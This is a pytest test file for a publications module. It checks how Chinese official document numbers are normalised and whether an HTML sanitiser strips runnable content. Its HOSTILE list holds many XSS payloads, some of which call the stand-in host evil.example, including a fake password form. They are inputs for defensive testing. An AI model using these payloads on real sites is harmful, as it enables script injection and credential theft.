"""Document numbers in one spelling, and text that no browser runs."""

import html.parser

import pytest

from publications import texts


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("渝民〔2021〕114号", "渝民〔2021〕114号"),
        ("渝民[2021]114号", "渝民〔2021〕114号"),
        ("渝民(2021)114号", "渝民〔2021〕114号"),
        ("渝民（２０２１）第１１４号", "渝民〔2021〕114号"),
        ("渝民【2021】114号", "渝民〔2021〕114号"),
        ("渝民［2021］114", "渝民〔2021〕114号"),
        (" 鲁民函 〔2021〕 034 号 ", "鲁民函〔2021〕34号"),
        ("国乡振发\u200b〔2022〕5号", "国乡振发〔2022〕5号"),
        ("（试行）第3号", "(试行)第3号"),
        ("", ""),
    ],
)
def test_a_number_is_kept_in_one_spelling(typed, stored):
    assert texts.normalise_number(typed) == stored
    assert texts.normalise_number(stored) == stored


def test_the_year_is_read_from_the_number():
    assert texts.year_in("渝民〔2021〕114号") == 2021
    assert texts.year_in("第3号") is None


class Parts(html.parser.HTMLParser):
    """The tags and attributes a browser would see."""

    def __init__(self, text: str):
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, *pair) for pair in attrs]


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)" style="position:fixed" class=x id=main>text</p>',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&#58;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>y</a>",
    "<a href='//evil.example'>z</a><a href='/logout/'>w</a>",
    "<a href='https://ok.example' target=_top onmouseover=x>x</a>",
    "<svg onload=alert(1)><g/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example';</style>",
    "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<template><script>alert(1)</script></template>",
    "<td background=javascript:alert(1)>x",
    "<table><tr><td colspan=2 onclick=x>a</td></tr></table>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<p>\x00<scr\x00ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "plain <\nscript>alert(1)</script>",
    "<" * 2000,
    "<b>" * 500,
]


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_that_runs_survives(hostile):
    cleaned = texts.clean_body(hostile)
    parts = Parts(cleaned)
    assert parts.tags <= texts.TAGS
    for tag, name, value in parts.attributes:
        assert name in texts.ATTRIBUTES.get(tag, ()) or (tag, name) == ("a", "rel")
        assert name != "href" or value.startswith(("http://", "https://"))
    assert texts.clean_body(cleaned) == cleaned


def test_plain_text_becomes_paragraphs_and_comes_back_as_typed():
    typed = "第一段 a < b & c\n第二行\n\n第二段"
    stored = texts.clean_body(typed)
    assert stored == "<p>第一段 a &lt; b &amp; c<br>第二行</p>\n\n<p>第二段</p>"
    assert texts.as_typed(stored) == typed


def test_simple_html_is_kept_and_shown_again_as_html():
    body = (
        '<h2>一</h2><ul><li><a href="https://a.example">b</a></li></ul><table><tr><th colspan="2">c</th></tr></table>'
    )
    stored = texts.clean_body(body)
    assert {"h2", "ul", "li", "a", "th"} <= Parts(stored).tags
    assert 'rel="noopener noreferrer nofollow"' in stored
    assert texts.as_typed(stored) == stored


def test_typed_entities_stay_text():
    stored = texts.clean_body("&lt;b&gt; 不是标签")
    assert stored == "<p>&amp;lt;b&amp;gt; 不是标签</p>"
    assert texts.as_typed(stored) == "&lt;b&gt; 不是标签"
    assert texts.clean_body(texts.clean_body("<x>a &amp; b</x>")) == "<p>a &amp; b</p>"


def test_a_summary_has_no_tags_and_ends_with_dots():
    assert texts.plain("<p>一二三</p><p>四五六</p>", 5) == "一二三 …"
    assert texts.plain("<p>a &lt; b</p>", 50) == "a < b"


def test_a_line_has_no_control_characters():
    assert texts.line(" 报告\u202egpj.exe\x07\n 二 ") == "报告gpj.exe 二"
